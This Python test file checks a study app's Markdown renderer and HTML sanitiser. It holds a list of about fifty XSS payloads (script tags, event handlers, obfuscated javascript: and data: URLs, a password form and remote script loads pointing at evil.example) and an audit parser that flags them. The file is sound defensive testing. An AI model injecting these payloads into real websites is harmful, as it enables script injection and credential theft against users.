"""Markdown rendering and sanitising: the only HTML the templates mark |safe."""

# Expected author-facing messages are kept whole, one per line, so a reader can
# grep them; that makes some lines longer than 88 columns.
# ruff: noqa: E501

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studyapp.content.format import render
from studyapp.content.format.render import (
    extract_image_paths,
    render_inline,
    render_markdown,
    render_stem,
)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name="pw"><button>go</button></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "[x](java\tscript:alert(1))",
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[ref]: javascript:alert(1)\n\n[click][ref]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>x</details>",
    '<input type="text" onfocus="alert(1)" autofocus>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<a href="https://ok.example" target="_blank" onclick="alert(1)">ok</a>',
    '段落 {: onclick="alert(1)" style="color:red" }',
    '# 标题 {: onclick="alert(1)" }',
    '<table><tr><td background="javascript:alert(1)">t</td></tr></table>',
    "```\n<script>alert(1)</script>\n```",
    '<img src="//evil.example/track.png">',
    '<a href="#" onclick="alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
]

_FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "style", "svg", "math", "base",
    "meta", "link", "textarea", "button", "noscript", "frame", "frameset",
}  # fmt: skip
_SAFE_URL = re.compile(r"^(https?:|mailto:|tel:|#|/(?!/)|[^:/?#]+(?:[/?#]|$))", re.I)


class _Audit(HTMLParser):
    """Collects every problem a browser would act on: tags, handlers, URLs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"tag {tag}")
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.problems.append("non-checkbox input")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcset", "formaction"):
                self.problems.append(f"attribute {name}")
            if name in ("href", "src", "background", "action") and value is not None:
                url = re.sub(r"[\x00-\x20]", "", value)
                if not _SAFE_URL.match(url):
                    self.problems.append(f"url {value!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")


def audit(html: str) -> list[str]:
    """What in *html* could run script or restyle the page (empty = safe)."""
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload: str) -> None:
    html = render_markdown(payload)
    assert audit(html) == [], html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised_in_inline_and_stems(payload: str) -> None:
    for html in (render_inline(payload), render_stem(payload + "{{答案}}").html):
        assert audit(html) == [], html
        assert "答案" not in html


def test_audit_itself_flags_dangerous_html() -> None:
    # The battery is only as good as its detector: prove it fails on bad HTML.
    assert audit('<img src=x onerror="alert(1)">') == ["attribute onerror"]
    assert audit('<a href="javascript:alert(1)">x</a>') == ["url 'javascript:alert(1)'"]
    assert audit("<script></script>") == ["tag script"]
    assert audit('<p style="x">s</p><!-- c -->') == ["attribute style", "comment"]


def test_code_block_shows_script_as_text() -> None:
    html = render_markdown("```\n<script>alert(1)</script>\n```")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_links_keep_safe_urls_and_get_rel() -> None:
    html = render_markdown("[学习强国](https://www.xuexi.cn) [邮件](mailto:a@b.cn)")
    assert 'href="https://www.xuexi.cn"' in html
    assert 'href="mailto:a@b.cn"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_tables_are_wrapped_to_scroll_and_aligned_without_style() -> None:
    html = render_markdown("| 会议 | 频次 |\n|:--|--:|\n| 支部党员大会 | 每季度 |")
    assert html.startswith('<div class="table-scroll"><table>')
    assert html.endswith("</table></div>")
    assert 'align="left"' in html and 'align="right"' in html
    assert "style" not in html


def test_raw_html_table_is_wrapped_too() -> None:
    html = render_markdown("<table><tr><td>一</td></tr></table>")
    assert html.count('<div class="table-scroll">') == 1


def test_headings_get_unicode_slugs_with_prefix_and_anchors_follow() -> None:
    html = render_markdown("## 三会一课\n\n[跳转](#三会一课)")
    assert '<h2 id="md-三会一课">三会一课</h2>' in html
    assert 'href="#md-三会一课"' in html


def test_author_ids_cannot_collide_with_app_dom_ids() -> None:
    html = render_markdown('<div id="quiz-question">x</div>')
    assert 'id="md-quiz-question"' in html


def test_only_known_classes_survive() -> None:
    html = render_markdown('<span class="btn btn-danger blank note">x</span>')
    assert 'class="note"' in html
    assert "btn" not in html and "blank" not in html


def test_fenced_code_keeps_language_class() -> None:
    html = render_markdown("```python\nx = 1\n```")
    assert '<code class="language-python">' in html


def test_tasklist_checkboxes_are_disabled() -> None:
    html = render_markdown("- [x] 学习党章\n- [ ] 写心得")
    assert html.count('disabled="disabled"') == 2
    assert 'checked=""' in html


@pytest.mark.parametrize(
    ("source", "fragment"),
    [
        ("==重点==", "<mark>重点</mark>"),
        ("~~删除~~", "<del>删除</del>"),
        ('??? note "展开"\n    内容', "<details"),
        ("**加粗** *斜体*", "<strong>加粗</strong> <em>斜体</em>"),
    ],
)
def test_markdown_extensions(source: str, fragment: str) -> None:
    assert fragment in render_markdown(source)


def test_relative_images_go_through_media_url() -> None:
    html = render_markdown(
        "![图](./img/a.png) ![外](https://cdn.example/b.png)",
        media_url=lambda rel: f"/media/lessons/{rel}",
    )
    assert 'src="/media/lessons/img/a.png"' in html
    assert 'src="https://cdn.example/b.png"' in html


def test_relative_images_stay_relative_without_media_url() -> None:
    assert 'src="img/a.png"' in render_markdown("![图](img/a.png)")


def test_images_climbing_out_lose_their_src() -> None:
    html = render_markdown("![x](../../secret.png)", media_url=lambda rel: "/m/" + rel)
    assert "src" not in html


def test_data_images_are_dropped() -> None:
    assert "src" not in render_markdown("![x](data:image/png;base64,iVBORw0KGgo=)")


def test_extract_image_paths_normalises_and_dedupes() -> None:
    text = (
        "![a](./img/a.png)\n\n![b](img/%E5%9B%BE.png) ![a again](img/a.png)\n\n"
        '<img src="raw.jpg"> ![web](https://x.example/w.png) ![up](../up.png)'
    )
    assert extract_image_paths(text) == [
        "img/a.png",
        "img/图.png",
        "raw.jpg",
        "../up.png",
    ]


def test_inline_render_drops_the_paragraph() -> None:
    assert render_inline("**党课**") == "<strong>党课</strong>"
    assert render_inline("党课") == "党课"
    assert render_inline("a & b") == "a &amp; b"


def test_stem_blanks_become_placeholders_without_answers() -> None:
    done = render_stem("党的力量来自{{组织|党组织}}，根基在{{人民}}。")
    assert done.html == (
        '<p>党的力量来自<span class="blank" data-blank="1">（　　）</span>，根基在'
        '<span class="blank" data-blank="2">（　　）</span>。</p>'
    )


def test_stem_blank_inside_attributes_never_leaks_answer() -> None:
    html = render_stem("![{{秘密答案}}](a.png) [x](#{{另一个}})").html
    assert "秘密答案" not in html and "另一个" not in html
    assert "QQBLANK" not in html.upper()


_ANY = st.characters(blacklist_categories=("Cs",))
_WORDISH = st.characters(blacklist_categories=("Cs", "P", "S", "Cc"))
_PUNCTUATED = st.sampled_from(list("党课ａA1 \u3000,.;:?!%/()'\"-+$@…——“”（）\t\xa0"))


@settings(max_examples=1500)
@given(
    st.text(alphabet=_ANY, max_size=40)
    | st.text(alphabet=_WORDISH, max_size=40)
    | st.text(alphabet=_PUNCTUATED, max_size=40)
)
def test_plain_fast_path_matches_full_renderer(text: str) -> None:
    if not render.is_plain(text):
        return
    md = render._md()
    md.reset()
    slow = render._sanitise(md.convert(text), None).html
    assert render.render(text).html == slow


@settings(max_examples=500)
@given(
    st.lists(
        st.text(alphabet=_WORDISH, min_size=1, max_size=12)
        | st.text(alphabet=_PUNCTUATED, max_size=12),
        min_size=2,
        max_size=4,
    )
)
def test_plain_paragraphs_fast_path_matches_full_renderer(parts: list[str]) -> None:
    text = "\n\n".join(parts)
    if not all(render.is_plain(p) for p in parts):
        return
    md = render._md()
    md.reset()
    slow = render._sanitise(md.convert(text), None).html
    assert render.render(text).html == slow


_BOLDISH = st.sampled_from(list("党课a1 *  ,.:（）“”-\t"))


@settings(max_examples=3000)
@given(
    st.text(alphabet=_BOLDISH, max_size=30)
    | st.lists(
        st.text(alphabet=_PUNCTUATED, max_size=6) | st.just("**"), max_size=10
    ).map("".join)
)
def test_bold_fast_path_matches_full_renderer(text: str) -> None:
    fast = render.bold_line_html(text)
    if fast is None:
        return
    md = render._md()
    md.reset()
    assert fast == render._sanitise(md.convert(text), None).html


def test_a_bold_option_skips_markdown(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    def no_markdown():  # type: ignore[no-untyped-def]
        raise AssertionError("Markdown ran on a bold line")

    monkeypatch.setattr(render, "_md", no_markdown)
    html = render.render("**党课**与团课").html
    assert html == "<p><strong>党课</strong>与团课</p>"


def test_plain_paragraphs_skip_markdown(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    def no_markdown():  # type: ignore[no-untyped-def]
        raise AssertionError("Markdown ran on plain paragraphs")

    monkeypatch.setattr(render, "_md", no_markdown)
    assert render.render("甲。\n\n乙（　）。").html == "<p>甲。</p>\n<p>乙（　）。</p>"


@given(st.text(max_size=200))
def test_render_never_raises_and_never_emits_script(text: str) -> None:
    html = render_markdown(text)
    assert "<script" not in html.lower()


def test_text_length_counts_visible_characters() -> None:
    assert render.text_length("<p>党 课&amp;</p>\n<p>x</p>") == 4
